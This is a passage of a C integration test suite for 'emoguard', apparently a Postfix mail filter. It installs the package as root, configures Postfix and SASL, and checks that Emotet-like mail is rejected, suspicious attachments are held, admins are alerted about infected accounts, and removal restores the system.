               "'%s/aliases.db' /etc/aliases.db; true",
               savedir, savedir, savedir);
        if (postfix_was_running)
            sh("postfix reload >/dev/null 2>&1; true");
        else
            sh("postfix stop >/dev/null 2>&1; true");
        /* postfix stop returns before the master is gone */
        for (int t = 0; !postfix_was_running && t < 100; t++) {
            if (sh("postfix status >/dev/null 2>&1") != 0)
                break;
            sleep_ms(100);
        }
        restore_chroot();
        if (!had_maillog)
            sh("rm -f " SAVE_MAILLOG);
    }
    del_users();
    for (int i = 0; i < nblocks; i++)
        free(blocks[i].text);
    if (dir && !getenv("EG_KEEP_TMP"))
        eg_test_rmrf(dir);
    free(dir);
    return 0;
}

static void need_root(void)
{
    if (geteuid() != 0) {
        fprintf(stderr, "test_postfix_walkthrough: needs root (it installs the package and "
                        "configures the system Postfix); skipped\n");
        skip();
    }
}

/* ---------------------------------------------------------------- the tests, in order */

static void doc_has_the_walkthrough_blocks(void **unused)
{
    (void)unused;
    need_root();
    assert_true(parse_doc());
    for (int i = 0; i < nblocks; i++)
        fprintf(stderr, "doc block %d: %s\n", i, blocks[i].name);
    assert_int_equal(nblocks, (int)N_WALK);
    for (size_t i = 0; i < N_WALK; i++)
        assert_string_equal(blocks[i].name, walk_order[i]);
}

/* The machine before the walk: local users, the administrator's milter, the SASL backend of
 * the submission service, and the system Postfix running (started if it was not). */
static void machine_before_the_walk(void **unused)
{
    (void)unused;
    need_root();
    assert_true(nblocks == (int)N_WALK);
    assert_int_equal(sh("useradd -M -d /nonexistent -s /usr/sbin/nologin -U %s && useradd -M -d "
                        "/nonexistent -s /usr/sbin/nologin -U %s",
                        USER_BOX, ADMIN_BOX),
                     0);
    walk_milter_port = eg_mh_free_port();
    walk_milter = start_walk_milter(walk_milter_port);
    assert_true(walk_milter > 0);
    /* smtpd runs chrooted, as Debian ships it */
    assert_int_equal(sh("awk '$1 == \"smtp\" && $2 == \"inet\" && $5 == \"y\" { ok = 1 } END { "
                        "exit !ok }' /etc/postfix/master.cf"),
                     0);
    assert_int_equal(
        sh("postconf -e 'smtpd_milters = inet:127.0.0.1:%d' 'smtpd_sasl_local_domain = " OWN_DOMAIN
           "' 'cyrus_sasl_config_path = /etc/postfix/sasl'",
           walk_milter_port),
        0);
    /* a container without ::1 on lo: Debian's inet_protocols = all would make the master fail
     * to bind loopback-only's ::1 */
    if (sh("grep -q '^00000000000000000000000000000001 ' /proc/net/if_inet6 2>/dev/null") != 0)
        sh("postconf -e 'inet_protocols = ipv4'");
    if (!have_syslog) /* Postfix logs nowhere otherwise: for reading failures */
        sh("postconf -e 'maillog_file = " SAVE_MAILLOG "'");
    /* Cyrus sasldb: the configuration is read before smtpd enters its chroot, the database
     * inside it (/etc/sasldb2 as the chrooted smtpd sees it) */
    assert_int_equal(
        sh("mkdir -p /etc/postfix/sasl /var/spool/postfix/etc && printf 'pwcheck_method: "
           "auxprop\\nauxprop_plugin: sasldb\\nmech_list: PLAIN LOGIN\\nsasldb_path: "
           "/etc/sasldb2\\n' >/etc/postfix/sasl/smtpd.conf && printf '%%s' '" SASL_PASS
           "' | saslpasswd2 -p -c -f /var/spool/postfix/etc/sasldb2 -u " OWN_DOMAIN " " SASL_USER
           " && chown root:postfix /var/spool/postfix/etc/sasldb2 && chmod 640 "
           "/var/spool/postfix/etc/sasldb2"),
        0);
    if (sh("postfix status >/dev/null 2>&1") == 0) {
        assert_int_equal(sh("postfix reload >&2"), 0);
    } else {
        int rc = real_systemd ? sh("systemctl start postfix >&2")
                 : exists("/etc/init.d/postfix")
                     ? sh("/etc/init.d/postfix start >&2") /* syncs the chroot's files */
                     : sh("postfix start >&2");
        assert_int_equal(rc, 0);
        started_postfix = true;
    }
    assert_true(eg_mh_wait_port(25, 20000));
    char *v = out_of("postconf -h smtpd_milters", NULL);
    fprintf(stderr, "smtpd_milters before the walk: %s", v);
    free(v);
}

static void install_as_the_doc_says(void **unused)
{
    (void)unused;
    need_root();
    assert_int_equal(sh("JOBS=2 sh '%s/scripts/build-deb.sh' '%s' >&2", EG_SOURCE_DIR, debdir), 0);
    /* "sudo apt-get install ./emoguard_VERSION_amd64.deb", where the .deb is */
    int rc = run_block("install", debdir);
    if (rc != 0)
        sh("ls '%s' >&2", debdir);
    assert_int_equal(rc, 0);
    installed = true;
    for (size_t i = 0; i < EG_DEB_N_FILES; i++) {
        if (!exists(eg_deb_files[i]))
            fprintf(stderr, "missing: %s\n", eg_deb_files[i]);
        assert_true(exists(eg_deb_files[i]));
    }
}

static void configure_and_start_as_the_doc_says(void **unused)
{
    (void)unused;
    need_root();
    assert_true(installed);
    assert_int_equal(run_block("socket", "/"), 0);
    assert_int_equal(run_block("submission", "/"), 0);
    int rc = run_block("start", "/");
    if (rc != 0)
        dump_logs();
    assert_int_equal(rc, 0);
    /* the socket, as the doc says: 0660, group postfix, inside the chroot */
    struct stat sb;
    bool up = false;
    for (int t = 0; t < 20000 && !up; t += 100) {
        up = lstat(SOCKET_PATH, &sb) == 0 && S_ISSOCK(sb.st_mode);
        if (!up)
            sleep_ms(100);
    }
    if (!up)
        dump_logs();
    assert_true(up);
    assert_int_equal(sb.st_mode & 0777, 0660);
    struct group *pg = getgrnam("postfix");
    assert_non_null(pg);
    assert_int_equal(sb.st_gid, pg->gr_gid);
    char *log = NULL;
    for (int t = 0; t < 20000; t += 200) { /* listening, not only bound */
        free(log);
        log = milter_log();
        if (strstr(log, "listening on unix:" SOCKET_PATH))
            break;
        sleep_ms(200);
    }
    assert_non_null(strstr(log, "listening on unix:" SOCKET_PATH));
    free(log);
}

static void postfix_setup_as_the_doc_says(void **unused)
{
    (void)unused;
    need_root();
    assert_true(installed);
    assert_int_equal(run_block("postfix", "/"), 0);
    char *v = out_of("postconf -h smtpd_milters", NULL);
    char want[200];
    snprintf(want, sizeof want, "inet:127.0.0.1:%d, unix:/emoguard/milter.sock\n",
             walk_milter_port);
    assert_string_equal(v, want); /* the existing milter survives, emoguard after it */
    free(v);
    v = out_of("postconf -h non_smtpd_milters", NULL);
    assert_non_null(strstr(v, "unix:/emoguard/milter.sock")); /* the notices pass it too */
    free(v);
    /* the doc's submission service, chrooted like smtp */
    assert_int_equal(sh("awk '$1 == \"submission\" && $2 == \"inet\" && $5 == \"y\" { ok = 1 } "
                        "END { exit !ok }' /etc/postfix/master.cf"),
                     0);
    assert_true(eg_mh_wait_port(SUBMISSION_PORT, 20000));
}

static void clean_mail_delivered_with_both_milters(void **unused)
{
    (void)unused;
    need_root();
    assert_true(installed);
    eg_mh_set_client_addr(NULL);
    char tok[64], reply[2048];
    eg_mh_token(tok, sizeof tok, "walk-clean");
    char *m = clean_mail(tok);
    int code = send_mail("taro@partner.example", USER_BOX "@localhost", m, reply, sizeof reply);
    free(m);
    if (code != 250) {
        fprintf(stderr, "reply: %s\n", reply);
        dump_logs();
    }
    assert_int_equal(code, 250);
    char *box = wait_mail(USER_BOX, tok, 2, 60000); /* Subject and Message-ID */
    if (!box)
        dump_logs();
    assert_non_null(box);
    char *msg = message_with(box, tok);
    assert_non_null(msg);
    assert_non_null(strstr(msg, "\nX-Walk-Milter: seen"));
    assert_non_null(strstr(msg, "\nX-Emoguard-Verdict: clean"));
    free(msg);
    free(box);
}

static void emotet_like_mail_rejected(void **unused)
{
    (void)unused;
    need_root();
    assert_true(installed);
    eg_mh_set_client_addr(NULL);
    char tok[64], reply[2048];
    eg_mh_token(tok, sizeof tok, "walk-emotet");
    char *m = emotet_mail("billing@partner.example", USER_BOX "@localhost", tok);
    int code = send_mail("billing@partner.example", USER_BOX "@localhost", m, reply, sizeof reply);
    free(m);
    if (code != 550) {
        fprintf(stderr, "reply: %s\n", reply);
        dump_logs();
    }
    assert_int_equal(code, 550);
    assert_non_null(strstr(reply, "5.7.1"));
    char *line = wait_log_line(tok, " verdict=malicious ", 20000);
    assert_non_null(line);
    assert_non_null(strstr(line, " action=reject "));
    free(line);
    char *box = mailbox(USER_BOX);
    assert_null(strstr(box, tok));
    free(box);
}

static void suspicious_mail_held_listed_released(void **unused)
{
    (void)unused;
    need_root();
    assert_true(installed);
    eg_mh_set_client_addr(NULL);
    char before[8192], qid[64], tok[64], reply[2048];
    queue_ids(before, sizeof before, "hold");
    eg_mh_token(tok, sizeof tok, "walk-held");
    char *m = zip_mail("sales@partner.example", USER_BOX "@localhost", tok, false);
    int code = send_mail("sales@partner.example", USER_BOX "@localhost", m, reply, sizeof reply);
    free(m);
    if (code != 250)
        fprintf(stderr, "reply: %s\n", reply);
    assert_int_equal(code, 250);
    bool held = new_held(before, qid, sizeof qid, 30000);
    if (!held)
        dump_logs();
    assert_true(held);
    /* the installed binary with the installed configuration */
    int rc = -1;
    char *out = NULL;
    bool listed = false;
    for (int t = 0; t < 20000 && !listed; t += 200) { /* the record follows the hold */
        free(out);
        out = out_of("/usr/bin/emoguard quarantine list 2>&1", &rc);
        listed = rc == 0 && strstr(out, qid);
        if (!listed)
            sleep_ms(200);
    }
    fprintf(stderr, "%s", out);
    assert_true(listed);
    char *line = strstr(out, qid);
    char *eol = strchr(line, '\n');
    if (eol)
        *eol = 0;
    assert_non_null(strstr(line, "suspicious"));
    assert_non_null(strstr(line, "ARCHIVE.NOT_OPENED"));
    free(out);
    char *box = mailbox(USER_BOX);
    assert_null(strstr(box, tok));
    free(box);
    char cmd[200];
    snprintf(cmd, sizeof cmd, "/usr/bin/emoguard quarantine release %s 2>&1", qid);
    out = out_of(cmd, &rc);
    fprintf(stderr, "%s", out);
    assert_int_equal(rc, 0);
    free(out);
    box = wait_mail(USER_BOX, tok, 2, 60000);
    assert_non_null(box);
    free(box);
}

static void forged_own_domain_from_outside_is_inbound(void **unused)
{
    (void)unused;
    need_root();
    assert_true(installed);
    const char *forger = "ceo@" OWN_DOMAIN;
    char tok[3][64], reply[2048], before[8192], qids[3][64];
    eg_mh_set_client_addr("127.0.0.2"); /* not in local_networks */
    for (int i = 0; i < 3; i++) {       /* three would alert if the envelope made it outbound */
        queue_ids(before, sizeof before, "hold");
        eg_mh_token(tok[i], sizeof tok[i], "walk-forged");
        char *m = zip_mail(forger, USER_BOX "@localhost", tok[i], true);
        int code = send_mail(forger, USER_BOX "@localhost", m, reply, sizeof reply);
        free(m);
        if (code != 250)
            fprintf(stderr, "reply: %s\n", reply);
        assert_int_equal(code, 250); /* suspicious: held */
        assert_true(new_held(before, qids[i], sizeof qids[i], 30000));
    }
    eg_mh_set_client_addr(NULL);
    for (int i = 0; i < 3; i++) {
        char *line = wait_log_line(tok[i], " dir=", 20000);
        if (!line)
            dump_logs();
        assert_non_null(line);
        fprintf(stderr, "%s\n", line);
        assert_non_null(strstr(line, " client=127.0.0.2"));
        assert_non_null(strstr(line, " dir=in "));
        assert_non_null(strstr(line, "SENDER.OWN_DOMAIN_FROM_OUTSIDE"));
        assert_null(strstr(line, "OUTBOUND-ALERT"));
        free(line);
    }
    /* the held notice about these arrives (the notices work); none says "infected" */
    char *box = wait_mail(ADMIN_BOX, "mail from ceo@" OWN_DOMAIN " held", 1, 60000);
    if (!box)
        dump_logs();
    assert_non_null(box);
    assert_null(strstr(box, "is probably sending"));
    free(box);
    char *log = milter_log();
    assert_null(strstr(log, "outbound alert: account"));
    free(log);
    for (int i = 0; i < 3; i++) { /* out of the way of the next tests */
        assert_int_equal(sh("/usr/bin/emoguard quarantine delete '%s' >&2", qids[i]), 0);
    }
}

static void authenticated_account_three_emotet_mails_alert_and_notice(void **unused)
{
    (void)unused;
    need_root();
    assert_true(installed);
    eg_mh_set_client_addr(NULL);
    char tok[3][64], reply[2048];
    /* to a colleague: this gateway delivers locally only (Debian's "Local only"), and an
     * infected PC writes to its colleagues as much as to partners */
    for (int i = 0; i < 3; i++) {
        eg_mh_token(tok[i], sizeof tok[i], "walk-auth");
        char *m = emotet_mail("alice@" OWN_DOMAIN, USER_BOX "@localhost", tok[i]);
        int code = send_auth("alice@" OWN_DOMAIN, USER_BOX "@localhost", m, reply, sizeof reply);
        free(m);
        if (code != 550 || !strstr(reply, "Your mail was not sent")) {
            fprintf(stderr, "reply: %s\n", reply);
            dump_logs();
        }
        assert_int_equal(code, 550); /* rejected, worded for the employee */
        assert_non_null(strstr(reply, "Your mail was not sent"));
    }
    for (int i = 0; i < 3; i++) {
        char *line = wait_log_line(tok[i], " dir=", 20000);
        assert_non_null(line);
        fprintf(stderr, "%s\n", line);
        assert_non_null(strstr(line, " dir=out via=auth account=" ACCOUNT " "));
        if (i < 2)
            assert_null(strstr(line, "OUTBOUND-ALERT"));
        else
            assert_non_null(strstr(line, "OUTBOUND-ALERT"));
        free(line);
    }
    char *alert = wait_log_line("outbound alert: account " ACCOUNT, NULL, 10000);
    assert_non_null(alert);
    free(alert);
    /* the JSON log too, where the example configuration puts it */
    char *json = read_text("/var/log/emoguard/messages.jsonl");
    assert_non_null(json);
    char *j = strstr(json, tok[2]);
    assert_non_null(j);
    char *jend = strchr(j, '\n');
    if (jend)
        *jend = 0;
    assert_non_null(strstr(j, "\"outbound_alert\":"));
    free(json);
    /* the admin's notice, through the system sendmail and Postfix (and the milter again) */
    const char *subj = "[emoguard] account " ACCOUNT " is probably sending Emotet-like mail";
    char *box = wait_mail(ADMIN_BOX, subj, 1, 60000);
    if (!box)
        dump_logs();
    assert_non_null(box);
    char *notice = message_with(box, subj);
    assert_non_null(notice);
    assert_non_null(strstr(notice, "Take the PC of this account off the network"));
    assert_null(strstr(notice, "X-Emoguard-Notice:")); /* removed by the milter on delivery */
    free(notice);
    free(box);
    /* the notice passed the milter, clean, and caused no notice of its own: every notice the
     * admin got was scanned as one mail to the admin, and none is about a notice */
    char *line = wait_log_line("rcpts=" ADMIN_BOX "@localhost", " verdict=", 20000);
    assert_non_null(line);
    free(line);
    sleep_ms(3000); /* a second notice would have been queued by now; the mailbox says */
    box = mailbox(ADMIN_BOX);
    assert_int_equal(count_of(box, subj), 1);
    assert_null(strstr(box, "[emoguard] mail from emoguard"));
    assert_null(strstr(box, "[emoguard] mail from MAILER-DAEMON"));
    int notices = count_of(box, "\nSubject: [emoguard] ");
    free(box);
    char *log = milter_log();
    int scanned = count_of(log, "rcpts=" ADMIN_BOX "@localhost dir=in verdict=clean ");
    free(log);
    fprintf(stderr, "notices in the admin's mailbox: %d, scanned clean on their way: %d\n", notices,
            scanned);
    assert_true(notices >= 3); /* held (x2 senders), rejected, infected */
    assert_int_equal(scanned, notices);
}

/* The doc's removal block, then nothing of the package is left and Postfix is as before. */
static void removal_leaves_nothing(void **unused)
{
    (void)unused;
    need_root();
    assert_true(installed);
    int rc = run_block("remove", "/");
    assert_int_equal(rc, 0);
    installed = false;
    for (size_t i = 0; i < EG_DEB_N_FILES; i++) {
        if (exists(eg_deb_files[i]))
            fprintf(stderr, "left behind: %s\n", eg_deb_files[i]);
        assert_false(exists(eg_deb_files[i]));
    }
    for (size_t i = 0; i < EG_DEB_N_MAN_PAGES; i++)
        assert_false(exists(eg_deb_man_pages[i]));
    for (size_t i = 0; i < EG_DEB_N_DIRS_GONE; i++) {
        if (exists(eg_deb_dirs_gone[i]))
            fprintf(stderr, "left behind: %s\n", eg_deb_dirs_gone[i]);
        assert_false(exists(eg_deb_dirs_gone[i]));
    }
    assert_false(exists("/var/spool/postfix/emoguard"));
    assert_int_not_equal(sh("getent passwd emoguard >/dev/null"), 0);
    assert_int_not_equal(sh("getent group emoguard >/dev/null"), 0);
    assert_int_not_equal(sh("getent group postfix | grep -qw emoguard"), 0);
    assert_int_not_equal(sh("getent group postdrop | grep -qw emoguard"), 0);
    /* the milter is gone; Postfix has the administrator's milter only, as before */
    char *v = out_of("postconf -h smtpd_milters", NULL);
    char want[200];
    snprintf(want, sizeof want, "inet:127.0.0.1:%d\n", walk_milter_port);
    assert_string_equal(v, want);
    free(v);
    v = out_of("postconf -h non_smtpd_milters", NULL);
    assert_null(strstr(v, "emoguard"));
    free(v);
    if (!real_systemd)
        assert_int_not_equal(sh("'%s/systemctl' is-active emoguard >/dev/null 2>&1", shims), 0);
    /* and mail flows without emoguard */
    char tok[64], reply[2048];
    eg_mh_token(tok, sizeof tok, "walk-after");
    char *m = clean_mail(tok);
    assert_int_equal(
        send_mail("taro@partner.example", USER_BOX "@localhost", m, reply, sizeof reply), 250);
    free(m);
    char *box = wait_mail(USER_BOX, tok, 2, 60000);
    assert_non_null(box);
    char *msg = message_with(box, tok);
    assert_non_null(strstr(msg, "\nX-Walk-Milter: seen"));
    assert_null(strstr(msg, "X-Emoguard-"));
    free(msg);
    free(box);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(doc_has_the_walkthrough_blocks),
        cmocka_unit_test(machine_before_the_walk),
        cmocka_unit_test(install_as_the_doc_says),
        cmocka_unit_test(configure_and_start_as_the_doc_says),
        cmocka_unit_test(postfix_setup_as_the_doc_says),
        cmocka_unit_test(clean_mail_delivered_with_both_milters),
        cmocka_unit_test(emotet_like_mail_rejected),
        cmocka_unit_test(suspicious_mail_held_listed_released),
        cmocka_unit_test(forged_own_domain_from_outside_is_inbound),
        cmocka_unit_test(authenticated_account_three_emotet_mails_alert_and_notice),
        cmocka_unit_test(removal_leaves_nothing),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
